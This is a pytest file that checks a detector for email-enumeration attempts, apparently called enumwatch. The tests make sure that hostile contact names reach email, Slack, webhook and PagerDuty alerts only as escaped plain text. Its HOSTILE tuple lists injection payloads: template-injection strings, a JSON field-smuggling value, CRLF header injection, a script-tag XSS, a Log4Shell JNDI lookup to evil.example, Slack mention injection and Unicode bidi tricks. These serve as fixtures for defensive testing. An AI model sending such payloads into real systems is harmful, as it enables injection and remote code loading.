"""Hostile names in the events change nothing but their own text, in documents and in everything that is sent."""

from __future__ import annotations

import json
from typing import Any

import pytest

from enumwatch.core.contact import Contact
from enumwatch.core.times import DAY, from_iso
from enumwatch.elastic.documents import finding_json
from enumwatch.elastic.watches.bodies import watches
from enumwatch.rulebook.compiled import compiled

from .execution import Engines, Outcome
from .stage import alone, contact, iso, published, put_contacts, put_verdicts
from .test_schema import EVERYBODY

BODIES = watches(compiled(), EVERYBODY)
PUBLISHED = BODIES["enumwatch-contacts-published-threshold"]
ROLL_CALL = BODIES["enumwatch-contacts-email-enumeration"]
FOLLOWING = BODIES["enumwatch-verdicts-published-threshold"]
_TRIGGER = from_iso("2026-03-20T12:00:00Z")
_MEGABYTE = 1_000_000

HOSTILE = (
    "{{ctx.metadata.app}}{{x}}@contoso.example",
    "{{#toJson}}ctx{{/toJson}}@contoso.example",
    "{{{x}}}",
    "quote'\"\\@contoso.example",
    'a","verdict":"No Finding","x":"@contoso.example',
    "line\r\nSubject: x\n\nbody@contoso.example",
    "</script><script>alert(1)</script>@contoso.example",
    "*bold* _under_ `code` ~strike~ [text](https://evil.example)",
    "<!channel> <!here> <@U123> <https://evil.example|click>@contoso.example",
    "${jndi:ldap://evil.example}@contoso.example",
    "null",
    "\u202egnp.exe\u2028\u0085@contoso.example",
    "\U0001f4a9\u00e9\u6f22@contoso.example",
    "x" * 65_536 + "@contoso.example",
    "\u6f22" * 1_020,
)


def hostile(number_of_each: int = 1) -> list[Contact]:
    """The names at one place, with agent and application as bad."""
    begin, rows = _TRIGGER - DAY // 24, []
    for turn in range(number_of_each):
        for number, name in enumerate(HOSTILE):
            agent = {"user_agent": HOSTILE[8], "app": HOSTILE[5]}
            rows.append(contact(f"{turn or ''}{name}", begin + (turn * 100 + number) * 1_000_000, **agent))
    return rows


def as_the_index_has_them(rows: list[Contact]) -> list[Contact]:
    """An index takes a text that is too long for none."""
    return [one if len(one.target) <= 1_024 else one._replace(target="") for one in rows]


def test_the_published_rule_is_told_byte_by_byte(engines: Engines) -> None:
    put_contacts(engines.searched, hostile())
    outcome = engines.execute(PUBLISHED, iso(_TRIGGER))
    (verdict,) = published(as_the_index_has_them(hostile()), _TRIGGER)
    told = json.loads(outcome.documents[0]["enumwatch"]["finding"])
    wanted = json.loads(finding_json(verdict))
    # Long texts are left out of lists, so that a run never hands over a megabyte.
    kept = told["evidence"].pop("names_sample")["tried"]
    assert set(kept) < set(wanted["evidence"].pop("names_sample")["tried"])
    assert len(kept) >= 12
    assert told == wanted


def test_a_roll_call_counts_the_names_that_are_mail_addresses(engines: Engines) -> None:
    put_contacts(engines.searched, hostile(2))
    outcome = engines.execute(ROLL_CALL, iso(_TRIGGER))
    ((verdict, _),) = alone(hostile(2), _TRIGGER)
    (document,) = outcome.documents
    told = document["enumwatch"]
    for key in ("finding_id", "verdict", "confidence", "actor", "window_start", "window_end"):
        assert told[key] == verdict.to_dict()[key], key
    for key in ("attempts", "names_tried", "names_absent", "names_sample", "user_agents_sample", "apps_sample"):
        assert told["evidence"][key] == verdict.to_dict()["evidence"][key], key


@pytest.fixture
def sent(engines: Engines) -> list[Outcome]:
    """What both watches and the one on verdicts send of hostile names."""
    put_contacts(engines.searched, hostile(2))
    found = [engines.execute(body, iso(_TRIGGER)) for body in (PUBLISHED, ROLL_CALL)]
    (verdict,) = published(as_the_index_has_them(hostile(2)), _TRIGGER)
    verdict.names_found = [HOSTILE[number] for number in (0, 1, 5, 8)]
    verdict.compromised_accounts = [HOSTILE[number] for number in (2, 3, 6, 7)]
    put_verdicts(engines.searched, [verdict], [f"{name} is a service account" for name in HOSTILE[:9]])
    return [*found, engines.execute(FOLLOWING, iso(_TRIGGER))]


def test_every_action_sends_them_as_plain_text(sent: list[Outcome]) -> None:
    for outcome in sent:
        (mail,), (slack,), (webhook,), (event,) = (
            outcome.sent[name] for name in ("email", "slack", "webhook", "pagerduty")
        )
        expected_lines = mail["body"]["text"].count("\n")
        assert 20 < expected_lines < 50
        assert set(mail) == {"account", "to", "subject", "body"}
        assert set(mail["body"]) == {"text"}
        assert _is_ours(mail["subject"])
        assert mail["to"] == list(EVERYBODY.email)
        message = slack["message"]
        assert _is_ours(message["text"])
        (attachment,) = message["attachments"]
        assert "mrkdwn_in" not in attachment
        assert "<" not in attachment["text"]
        assert ">" not in attachment["text"]
        assert mail["body"]["text"].startswith(_unescaped(attachment["text"]))
        body = json.loads(webhook["body"])
        assert body["text"] == mail["body"]["text"]
        assert event["incident_key"] == body["id"]
        assert "\n" not in event["description"]


def test_templates_inside_of_names_are_never_filled(sent: list[Outcome]) -> None:
    whole = json.dumps([one.sent for one in sent])
    assert "{{ctx.metadata.app}}{{x}}" in whole
    assert "enumwatch{{x}}" not in whole
    assert "Caution before containment: {{ctx.metadata.app}}{{x}}@contoso.example is a service account." in whole
    assert '\\"metadata\\"' not in json.dumps([one.sent["email"] for one in sent])
    assert "<!channel>" not in json.dumps([one.sent["slack"] for one in sent])
    assert "&lt;!channel&gt;" in json.dumps([one.sent["slack"] for one in sent])


def test_no_control_character_reaches_people(sent: list[Outcome]) -> None:
    texts = [one["body"]["text"] for each in sent for one in each.sent["email"]]
    assert not [c for text in texts for c in text if (c < " " and c != "\n") or c in "\x7f\x85\u2028\u2029"]
    assert not any(line.startswith("Subject:") for text in texts for line in text.split("\n"))


@pytest.mark.parametrize("body", [PUBLISHED, ROLL_CALL], ids=["published", "roll call"])
def test_no_payload_is_a_megabyte_however_many_hostile_names_there_are(engines: Engines, body: dict[str, Any]) -> None:
    rows, begin = [], _TRIGGER - DAY // 24
    for address in range(40):
        for number in range(60):
            bad = f"{number}{'<漢' * 250}@contoso.example"
            place = {"src_ip": f"203.0.113.{address}", "user_agent": bad[::-1], "app": bad}
            answer = {"outcome": "exists_bad_secret", "code": "50053"} if number % 2 else {}
            rows.append(contact(bad.replace("<", "&"), begin + number * 1_000_000, **{**place, **answer}))
            rows[-1] = rows[-1]._replace(user_agent="x") if number % 7 else rows[-1]
    put_contacts(engines.searched, rows)
    outcome = engines.execute(body, iso(_TRIGGER))
    assert len(outcome.documents) == 25
    assert outcome.largest < _MEGABYTE


def _is_ours(text: str) -> bool:
    """True for a title, which is made of our own words alone."""
    return text.startswith("enumwatch: ") and text.isascii() and len(text) < 120 and "\n" not in text


def _unescaped(text: str) -> str:
    return text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
